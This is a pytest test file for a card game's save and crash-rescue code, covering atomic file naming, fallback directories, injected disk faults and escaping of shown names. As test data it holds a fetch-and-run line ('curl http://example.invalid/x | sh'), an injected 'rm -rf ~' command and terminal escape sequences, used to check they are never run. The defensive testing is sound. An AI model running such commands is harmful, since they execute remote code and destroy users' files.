"""Files the game names on its own: hangup and crash saves, their places and names (mille.rescue).

In-process tests of :func:`mille.files.save.write_new` and :func:`mille.files.rescue.keep`:
names claimed atomically and never reused, the fallback places in order
(state directory, current directory, temporary directory), what is said
when every place fails, and faults at write, fsync and link.  Faults a test
cannot make for real (a full disk, an I/O error, a file system without hard
links) are injected by replacing the ``os`` function; everything else (a
directory that cannot be made, a deleted working directory, an unset HOME)
is made for real.  Real processes hanging up together are in
``test_rescue_pty.py``.
"""

from __future__ import annotations

import errno
import os
import re
import stat
import tempfile
import time
from pathlib import Path

import pytest

from helpers.faults import full_disk, run_python, short_then_failing
from mille.engine import rules
from mille.engine.state import Game
from mille.files import rescue, save

posix = pytest.mark.skipif(os.name != "posix", reason="POSIX file semantics")
STAMP = r"\d{8}-\d{6}"


def game(seed: int = 5) -> Game:
    g = Game()
    g.rng.seed(seed)
    rules.start_hand(g)
    return g


@pytest.fixture
def places(tmp_path, monkeypatch):
    """A state directory, a working directory and a temporary directory, all under tmp_path."""
    work = tmp_path / "work"
    work.mkdir()
    temp = tmp_path / "temp"
    temp.mkdir()
    monkeypatch.chdir(work)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setattr(tempfile, "tempdir", str(temp))  # where gettempdir() looks first
    return tmp_path


def listing(path) -> list[str]:
    return sorted(os.listdir(path))


# --------------------------------------------------------------------------
# write_new: a name of its own, claimed atomically


@posix
def test_write_new_takes_the_first_free_name_and_never_replaces_one(tmp_path):
    (tmp_path / "hangup-x.json").write_text("someone else's")
    first = save.write_new(str(tmp_path), "hangup-x", b"one")
    second = save.write_new(str(tmp_path), "hangup-x", b"two")
    assert os.path.basename(first) == "hangup-x-2.json"
    assert os.path.basename(second) == "hangup-x-3.json"
    assert (tmp_path / "hangup-x.json").read_text() == "someone else's"
    assert (tmp_path / "hangup-x-2.json").read_bytes() == b"one"
    assert (tmp_path / "hangup-x-3.json").read_bytes() == b"two"
    assert stat.S_IMODE(os.stat(first).st_mode) == 0o600  # private
    assert listing(tmp_path) == ["hangup-x-2.json", "hangup-x-3.json", "hangup-x.json"]  # no temporary file


@posix
def test_write_new_does_not_follow_a_link_planted_at_the_name(tmp_path):
    """link(2) fails on any existing name, a dangling symbolic link included: nothing is written through it."""
    os.symlink(tmp_path / "victim", tmp_path / "hangup-x.json")
    path = save.write_new(str(tmp_path), "hangup-x", b"game")
    assert os.path.basename(path) == "hangup-x-2.json"
    assert not (tmp_path / "victim").exists()


@pytest.mark.parametrize("code", [errno.EPERM, errno.EOPNOTSUPP], ids=["EPERM", "EOPNOTSUPP"])
def test_write_new_without_hard_links_claims_with_o_excl(tmp_path, monkeypatch, code):
    """A file system without hard links (FAT, some network mounts): the name is claimed with O_EXCL."""

    def no_links(src: str, dst: str) -> None:
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(save.os, "link", no_links)
    (tmp_path / "s.json").write_text("taken")
    paths = [save.write_new(str(tmp_path), "s", b"%d" % i) for i in range(3)]
    assert [os.path.basename(p) for p in paths] == ["s-2.json", "s-3.json", "s-4.json"]
    assert [Path(p).read_bytes() for p in paths] == [b"0", b"1", b"2"]
    assert (tmp_path / "s.json").read_text() == "taken"
    assert listing(tmp_path) == ["s-2.json", "s-3.json", "s-4.json", "s.json"]


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EIO], ids=["ENOSPC", "EIO"])
@pytest.mark.parametrize("failing", ["write", "fsync", "link"])
def test_write_new_failure_leaves_nothing_behind(tmp_path, monkeypatch, failing, code):
    (tmp_path / "s.json").write_text("old")

    def boom(*args: object) -> None:
        raise OSError(code, os.strerror(code))

    # A full disk cuts the write short first: the rest is tried, and that fails.
    monkeypatch.setattr(save.os, failing, short_then_failing(code) if failing == "write" else boom)
    with pytest.raises(OSError) as info:
        save.write_new(str(tmp_path), "s", b"new")
    assert info.value.errno == code
    monkeypatch.undo()
    assert listing(tmp_path) == ["s.json"] and (tmp_path / "s.json").read_text() == "old"


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EIO], ids=["ENOSPC", "EIO"])
def test_write_new_without_links_failing_at_rename_leaves_nothing(tmp_path, monkeypatch, code):
    def no_links(src: str, dst: str) -> None:
        raise OSError(errno.EPERM, os.strerror(errno.EPERM))

    def boom(*args: object) -> None:
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(save.os, "link", no_links)
    monkeypatch.setattr(save.os, "replace", boom)
    with pytest.raises(OSError):
        save.write_new(str(tmp_path), "s", b"new")
    monkeypatch.undo()
    assert listing(tmp_path) == []  # neither the claim nor the temporary file


# --------------------------------------------------------------------------
# rescue.keep: the places, in order


@posix
def test_the_state_directory_comes_first(places):
    when = time.mktime((2026, 11, 21, 14, 32, 29, 0, 0, -1))
    kept = [rescue.keep(b"x", rescue.HANGUP, now=when) for _ in range(3)]
    directory = places / "state" / "mille"
    assert [k.path for k in kept] == [
        str(directory / "hangup-20261121-143229.json"),
        str(directory / "hangup-20261121-143229-2.json"),
        str(directory / "hangup-20261121-143229-3.json"),
    ]
    assert all(k.tried == [] for k in kept)
    assert stat.S_IMODE(os.stat(directory).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(places / "state").st_mode) == 0o700
    assert listing(places / "work") == [] and listing(places / "temp") == []


@pytest.mark.parametrize("value", [None, "", "relative/dir"])
def test_the_state_directory_defaults_to_local_state(places, monkeypatch, value):
    if value is None:
        monkeypatch.delenv("XDG_STATE_HOME", raising=False)
    else:
        monkeypatch.setenv("XDG_STATE_HOME", value)  # a relative value is ignored, as XDG asks
    monkeypatch.setenv("HOME", str(places / "home"))
    kept = rescue.keep(b"x", rescue.HANGUP)
    assert kept.path is not None
    assert os.path.dirname(kept.path) == str(places / "home" / ".local" / "state" / "mille")
    assert re.fullmatch(rf"hangup-{STAMP}\.json", os.path.basename(kept.path))


@posix
def test_a_state_directory_that_cannot_be_made_falls_back_to_the_current_directory(places, monkeypatch):
    blocker = places / "blocker"
    blocker.write_text("a regular file where a directory should be")
    monkeypatch.setenv("XDG_STATE_HOME", str(blocker / "state"))
    kept = rescue.keep(b"x", rescue.HANGUP)
    assert kept.path is not None and os.path.dirname(kept.path) == str(places / "work")
    assert re.fullmatch(rf"hangup-{STAMP}\.json", os.path.basename(kept.path))
    assert kept.tried == [(str(blocker / "state" / "mille"), "Not a directory")]
    line = rescue.saved_line(kept)
    assert line.startswith(f"mille: the game is saved in {kept.path}; resume it with: mille {kept.path}")
    assert f"(not saved in {blocker}/state/mille: Not a directory)" in line


def test_the_line_after_a_game_against_a_program_never_hands_over_its_command(places):
    """A hangup against ``exec:...``: resume with the file and --computer naming the program, its command unshown."""
    from mille.ui.keeping import Keeper

    spec = "exec:curl http://example.invalid/x | sh"
    keeper = Keeper("mille")
    keeper.keep(save.SavedGame(game(), 0, spec))
    assert keeper.line is not None and keeper.saved
    path = keeper.line.split(" is saved in ", 1)[1].split(";", 1)[0]
    assert save.read_game(path).computer == spec  # the save keeps it: a --computer typed again runs it
    assert keeper.line == (
        f"mille: the game is saved in {path}; resume it with: mille {path} and --computer exec:COMMAND"
        " naming the program it was played against (a save never runs one)"
    )
    keeper.keep(save.SavedGame(game(), 0, "expert"))  # a built-in computer: the file alone resumes it
    assert keeper.line is not None and keeper.line.endswith("; resume it with: mille " + keeper.line.split()[-1])
    assert "--computer" not in keeper.line


def test_a_save_against_a_program_resumed_shows_its_command_only_as_data() -> None:
    line = rescue.not_run_line("g1", "exec:x'; rm -rf ~; '\x1b]0;hi\x07", "bsd")
    assert line.startswith("mille: g1 was saved against a program, which a save never runs: bsd plays instead;")
    assert "\x1b" not in line and "\x07" not in line
    assert line.endswith("""(the file names "exec:x'; rm -rf ~; '\\u001b]0;hi\\u0007")""")


@posix
def test_no_home_falls_back_to_the_current_directory(places, monkeypatch):
    monkeypatch.delenv("XDG_STATE_HOME")
    monkeypatch.delenv("HOME", raising=False)
    monkeypatch.setattr(os.path, "expanduser", lambda path: path)  # no password entry either
    kept = rescue.keep(b"x", rescue.HANGUP)
    assert kept.path is not None and os.path.dirname(kept.path) == str(places / "work")
    assert kept.tried == [("the state directory", "no home directory (HOME is unset or not absolute)")]


@posix
def test_then_the_temporary_directory_under_a_name_nobody_can_guess(places, monkeypatch):
    blocker = places / "blocker"
    blocker.write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(blocker))
    gone = places / "work"
    os.rmdir(gone)  # the working directory was deleted under the game
    kept = rescue.keep(b"game", rescue.CRASH)
    assert kept.path is not None and os.path.dirname(kept.path) == str(places / "temp")
    assert re.fullmatch(rf"mille-crash-{STAMP}-[0-9a-f]{{12}}\.json", os.path.basename(kept.path))
    assert stat.S_IMODE(os.stat(kept.path).st_mode) == 0o600
    assert [place for place, _ in kept.tried] == [str(blocker / "mille"), "the current directory"]
    assert kept.tried[1][1] == "No such file or directory"
    other = rescue.keep(b"game", rescue.CRASH)
    assert other.path != kept.path  # two in one second: still two names


@posix
def test_when_every_place_fails_the_line_names_each(places, monkeypatch):
    blocker = places / "blocker"
    blocker.write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(blocker))
    os.rmdir(places / "work")
    monkeypatch.setattr(tempfile, "tempdir", str(blocker / "tmp"))
    kept = rescue.keep(b"game", rescue.HANGUP)
    assert kept.path is None
    assert kept.tried == [
        (str(blocker / "mille"), "Not a directory"),
        ("the current directory", "No such file or directory"),
        (str(blocker / "tmp"), "Not a directory"),
    ]
    assert rescue.saved_line(kept) == (
        f"mille: the game could not be saved anywhere ({blocker}/mille: Not a directory; "
        f"the current directory: No such file or directory; {blocker}/tmp: Not a directory)"
    )


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EIO], ids=["ENOSPC", "EIO"])
@pytest.mark.parametrize("failing", ["write", "fsync", "link"])
def test_a_full_state_directory_falls_back_and_leaves_nothing_there(places, monkeypatch, failing, code):
    """A fault in one place (only there: a full or failing disk) sends the game to the next."""
    state = places / "state" / "mille"
    state.mkdir(parents=True)
    real = getattr(os, failing)

    def in_state(arg: object) -> bool:
        path = os.readlink(f"/proc/self/fd/{arg}") if isinstance(arg, int) else str(arg)
        return path.startswith(str(state))

    cut_short: list[int] = []

    def faulty(*args: object) -> object:
        if in_state(args[0]):
            if failing == "write" and not cut_short:  # a full disk cuts the first write short
                cut_short.append(len(args[1]))  # type: ignore[arg-type]
                return real(args[0], bytes(args[1][:100]))  # type: ignore[index]
            raise OSError(code, os.strerror(code))
        return real(*args)

    if failing != "link" and not os.path.exists("/proc/self/fd"):
        pytest.skip("needs /proc to tell which file a descriptor is")
    monkeypatch.setattr(save.os, failing, faulty)
    kept = rescue.keep_game(save.SavedGame(game()))
    monkeypatch.undo()
    assert kept.path is not None and os.path.dirname(kept.path) == str(places / "work")
    assert kept.tried == [(str(state), os.strerror(code))]
    assert listing(state) == []  # no temporary file left
    assert save.to_dict(save.read_game(kept.path).game) == save.to_dict(game())


def test_keep_game_writes_only_what_a_restore_accepts(places):
    g = game()
    g.pending_extension = 3  # a question the computer could never leave open in a file
    g.to_move = 1
    kept = rescue.keep_game(save.SavedGame(g))
    assert kept.path is None
    assert kept.tried[0][0] == "the game" and "pending_extension" in kept.tried[0][1]
    assert listing(places / "work") == [] and not (places / "state").exists()


def test_a_crash_report_goes_beside_its_game(places):
    kept = rescue.keep(b"{}", rescue.CRASH)
    assert kept.path is not None
    try:
        raise ValueError("injected")
    except ValueError as exc:
        text = rescue.crash_report(exc, kept)
    report = rescue.write_beside(kept.path, text)
    assert report.path == kept.path[: -len(".json")] + ".txt"
    written = Path(report.path).read_text()
    assert "Traceback (most recent call last)" in written and "ValueError: injected" in written
    assert f"game: {kept.path}" in written


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("plain-name.json", "plain-name.json"),
        ("été", "été"),
        ("\x1b[2Jevil", "\\x1b[2Jevil"),
        ("a\nb\tc", "a\\nb\\tc"),
        ("bad\udcffbyte", "bad\\xffbyte"),  # an undecodable byte from the command line
        ("\u202eright-to-left", "\\u202eright-to-left"),
    ],
)
def test_names_are_shown_escaped(name, expected):
    assert rescue.shown(name) == expected


@posix
def test_a_directory_open_to_others_is_passed_over_and_said(places):
    state = places / "state" / "mille"
    state.mkdir(parents=True)
    os.chmod(state, 0o777)
    kept = rescue.keep_game(save.SavedGame(game()))
    assert kept.path is not None and os.path.dirname(kept.path) == str(places / "work")
    assert kept.tried == [(str(state), "writable by others (mode 0777), not used: chmod go-w it")]
    assert listing(state) == []
    assert "(not saved in " in rescue.saved_line(kept) and "writable by others" in rescue.saved_line(kept)


KEEP_ON_A_FULL_DISK = """
import os, sys, tempfile
from mille.engine import rules
from mille.engine.state import Game
from mille.files import rescue, save
tempfile.tempdir = sys.argv[1]
{full_disk}
game = Game()
game.rng.seed(5)
rules.start_hand(game)
print(rescue.saved_line(rescue.keep_game(save.SavedGame(game))))
"""


@posix
def test_a_real_full_disk_everywhere_is_said_and_leaves_nothing(places):
    """RLIMIT_FSIZE in a child: in every place the write is cut short, then fails; no piece is left anywhere."""
    shown = run_python(
        KEEP_ON_A_FULL_DISK.replace("{full_disk}", full_disk(1000)),
        str(places / "temp"),
        env={"XDG_STATE_HOME": str(places / "state")},
    )
    assert shown.stderr == ""
    too_large = os.strerror(errno.EFBIG)
    assert shown.stdout == (
        f"mille: the game could not be saved anywhere ({places}/state/mille: {too_large}; "
        f"{places}/work: {too_large}; {places}/temp: {too_large})\n"
    )
    assert listing(places / "state" / "mille") == listing(places / "work") == listing(places / "temp") == []
